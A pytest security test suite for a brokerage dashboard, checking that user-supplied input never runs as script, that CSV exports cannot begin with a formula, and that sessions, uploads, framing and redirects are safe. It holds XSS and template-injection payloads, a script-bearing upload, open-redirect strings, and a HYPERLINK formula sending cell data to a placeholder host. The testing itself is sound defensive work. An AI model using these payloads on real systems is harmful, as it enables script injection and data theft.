"""What customers, colleagues and passers-by may try: nothing runs, and nobody stays in."""

import csv
import io
import re
from base64 import b64encode
from collections.abc import Iterator
from http.cookies import SimpleCookie

import httpx
import pytest
from playwright.sync_api import Browser, Route

from tests.dashboard.addresses import PAGES, addresses
from tests.dashboard.person import a_person
from tests.dashboard.visitor import Visitor, a_member, a_visitor, uses
from tests.dashboard.world import Words, World, a_world
from tests.serving import Brokerage, Server, a_brokerage

_SCRIPT = "<script>window.harmed = 1</script><img src=x onerror=window.harmed=1>"
_BREAKING_OUT = "'\"></textarea></title><svg onload=window.harmed=1>{{7654321*3}}"
_FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1, "open")'
_PAGE_THAT_RUNS = b"<html><script>document.title = 'harmed'</script></html>"
_NUMBER = re.compile(r"-?[\d.]+")
_BEGIN_FORMULAS = ("=", "+", "-", "@", "\t", "\r")
_LONG_ENOUGH = "a long enough password"

HARMFUL = Words(
    given_name="<img src=x onerror=window.harmed=1>",
    family_name="'\"><svg onload=window.harmed=1>{{7654321*3}}",
    nickname=_FORMULA,
    client_order_id=_SCRIPT + _BREAKING_OUT[:50],
    watchlist=_SCRIPT[:64],
    asset_name=_BREAKING_OUT + _SCRIPT,
    document=b64encode(_PAGE_THAT_RUNS).decode(),
)


@pytest.fixture(scope="module")
def harmful(server: Server) -> Iterator[World]:
    """A world in which everybody who could write something wrote something harmful."""
    with a_brokerage(server, "a-world-of-people-who-mean-harm") as brokerage:
        world = a_world(brokerage, HARMFUL)
        with a_member(brokerage, "harmful.heron@example.com", _SCRIPT) as visitor:
            visitor.invites("harmful.finch@example.com", _SCRIPT, "support")
            visitor.sends("/developers/keys", {"name": _SCRIPT + _BREAKING_OUT})
        yield world


@pytest.fixture
def visitor(brokerage: Brokerage) -> Iterator[Visitor]:
    """A super user."""
    with a_visitor(brokerage) as someone:
        yield someone


def test_nothing_that_anybody_has_written_runs_or_is_taken_for_markup(
    harmful: World, chromium: Browser, server: Server
) -> None:
    """The browser is told to allow every script, so that nothing but escaping keeps us safe."""
    with a_person(chromium, server, harmful.brokerage, bypass_csp=True) as person:
        page = person.page
        for route in PAGES:
            for address in addresses(route, harmful):
                page.goto(f"{server.url}/dashboard{address}", wait_until="domcontentloaded")
                assert page.evaluate("window.harmed") is None, address
                assert page.locator("main [onerror], main [onload], main script").count() == 0
                assert "22962963" not in page.content(), f"{address} computes what somebody wrote"
        person.complaints.clear()


@pytest.mark.parametrize(
    "address",
    [
        "/accounts?search={}",
        "/accounts?status={}&from={}&page={}&sort={}",
        "/search?q={}",
        "/market?search={}",
        "/transactions?search={}&symbol={}",
        "/team/audit?action={}&person={}",
        "/market/{}",
        "/?period={}",
        "/sign-in?next={}",
        "/{}",
    ],
)
def test_what_an_address_says_is_never_markup(address: str, visitor: Visitor) -> None:
    filled = address.replace("{}", str(httpx.QueryParams({"q": _SCRIPT}))[2:])
    answer = visitor.gets(filled, follow_redirects=True)
    assert answer.status_code < 500
    assert "<script>window" not in answer.text
    assert "<img src=x" not in answer.text


def test_a_team_with_a_harmful_name_is_a_harmless_one(server: Server, chromium: Browser) -> None:
    with httpx.Client(base_url=server.url, timeout=30) as http:
        form = {
            "team": "<b>Harmful</b>",
            "name": _SCRIPT,
            "email": "harmful.team@example.com",
            "password": _LONG_ENOUGH,
        }
        sent = http.post("/dashboard/sign-up", data=form, headers={"Origin": server.url})
        assert sent.status_code == 303
        shown = http.get("/dashboard/profile").text
        assert "b-harmful-b" in shown
        assert "<script>window" not in shown
        http.cookies.clear()
        again = http.post("/dashboard/sign-up", data=form, headers={"Origin": server.url})
        assert again.status_code == 422
        assert "<script>window" not in again.text


def test_an_upload_is_handed_out_so_that_nothing_in_it_can_run(harmful: World) -> None:
    with a_visitor(harmful.brokerage) as visitor:
        rich = harmful.accounts["rich"]
        upload = visitor.gets(f"/documents/{rich}/uploads/{harmful.document}")
        assert upload.status_code == 200
        assert upload.content == _PAGE_THAT_RUNS
        assert upload.headers["content-type"] == "image/png", "what it says it is, and no guess"
        assert "sandbox" in upload.headers["content-security-policy"]
        assert upload.headers["x-content-type-options"] == "nosniff"
        elsewhere = visitor.gets(f"/documents/{harmful.trader}/uploads/{harmful.document}")
        assert elsewhere.status_code == 404, "of another account it is not there"


def test_no_cell_of_any_csv_file_is_a_formula(harmful: World) -> None:
    files = 0
    with a_visitor(harmful.brokerage) as visitor:
        for route in PAGES:
            for address in addresses(route, harmful):
                answer = visitor.gets(address, params={"format": "csv"})
                if not answer.headers.get("content-type", "").startswith("text/csv"):
                    continue
                files += 1
                for row in csv.reader(io.StringIO(answer.text)):
                    for cell in row:
                        is_number = _NUMBER.fullmatch(cell) is not None
                        assert is_number or not cell.startswith(_BEGIN_FORMULAS), (address, cell)
    assert files > 10


def test_what_begins_like_a_formula_is_text_in_a_csv_file(
    brokerage: Brokerage, visitor: Visitor
) -> None:
    for number, start in enumerate(_BEGIN_FORMULAS[:4]):
        account = brokerage.open_account(f"falcon.{number}@example.com")
        change = {"identity": {"given_name": f"{start}1+1"}}
        brokerage.http.patch(f"/v1/accounts/{account.id}", json=change).raise_for_status()
    names = [row[1] for row in csv.reader(io.StringIO(visitor.gets("/accounts?format=csv").text))]
    assert sorted(names[1:]) == sorted(f"'{start}1+1 Falcon" for start in _BEGIN_FORMULAS[:4])


def test_whoever_plants_a_session_is_not_in_it_afterwards(
    brokerage: Brokerage, visitor: Visitor
) -> None:
    planted = visitor.http.cookies["streetname_session"]
    link = brokerage.sandbox("POST", "/sign-in-links", {"role": "developer"})["path"]
    with httpx.Client(timeout=30) as victim:
        victim.cookies.set("streetname_session", planted, path="/dashboard")
        given = SimpleCookie(uses(victim, f"{brokerage.url}{link}").headers["set-cookie"])
    assert given["streetname_session"].value not in ("", planted)
    assert "Super user" in visitor.gets("/profile").text


def test_each_sign_in_is_a_session_with_a_token_and_a_form_token_of_its_own(
    brokerage: Brokerage,
) -> None:
    with a_visitor(brokerage) as one, a_visitor(brokerage) as another:
        tokens = {each.http.cookies["streetname_session"] for each in (one, another)}
        assert len(tokens) == 2
        assert one.token != another.token


def test_whoever_is_removed_from_the_team_sees_nothing_from_that_moment_on(
    brokerage: Brokerage, visitor: Visitor
) -> None:
    with a_visitor(brokerage, "operations") as removed:
        assert removed.gets("/accounts").status_code == 200
        person_id = id_of(visitor, "operations")
        assert visitor.sends(f"/team/members/{person_id}/remove").status_code == 303
        assert removed.gets("/accounts").status_code in (303, 403)
        assert removed.sends("/theme", {"theme": "dark"}).status_code in (303, 403)
        location = removed.gets("/accounts").headers.get("location", "")
        assert location.startswith("/dashboard/sign-in")


def test_the_last_super_user_cannot_be_removed_or_lowered(visitor: Visitor) -> None:
    person_id = id_of(visitor, "super_user")
    visitor.sends(f"/team/members/{person_id}/remove")
    visitor.sends(f"/team/members/{person_id}/role", {"role": "support"})
    assert visitor.gets("/team").status_code == 200


def test_a_page_of_another_site_cannot_show_ours_in_a_frame(
    chromium: Browser, server: Server, brokerage: Brokerage
) -> None:
    with a_person(chromium, server, brokerage) as person:
        page = person.page

        def answer(route: Route) -> None:
            body = f'<iframe src="{server.url}/dashboard/accounts"></iframe>'
            route.fulfill(content_type="text/html", body=body)

        page.route("http://elsewhere.example/", answer)
        page.goto("http://elsewhere.example/")
        assert page.frames[-1].url.startswith("chrome-error:")
        person.complaints.clear()


@pytest.mark.parametrize(
    "back",
    ["https://elsewhere.example/", "//elsewhere.example", "/\\elsewhere.example", "/v1/accounts"],
)
def test_no_form_leads_away_from_the_dashboard(back: str, visitor: Visitor) -> None:
    for path, form in (("/theme", {"theme": "dark"}), ("/clock/mode", {"mode": "frozen"})):
        answer = visitor.sends(path, {**form, "back": back})
        assert answer.status_code == 303
        assert answer.headers["location"] == "/dashboard"


def test_a_refused_form_leads_back_to_a_page_of_ours_alone(visitor: Visitor) -> None:
    headers = {"Origin": visitor.url, "Referer": "https://elsewhere.example/dashboard/accounts"}
    answer = visitor.sends("/clock/advance", {"until": "never"}, headers=headers)
    assert answer.headers["location"].startswith("/dashboard")


def id_of(visitor: Visitor, role: str) -> str:
    """The id of the first member in a role."""
    for found in re.finditer(
        r'id="role-([^"]+)"(.*?)</select>', visitor.gets("/team").text, re.DOTALL
    ):
        if re.search(rf'value="{role}" selected', found.group(2)):
            return found.group(1)
    raise AssertionError(role)
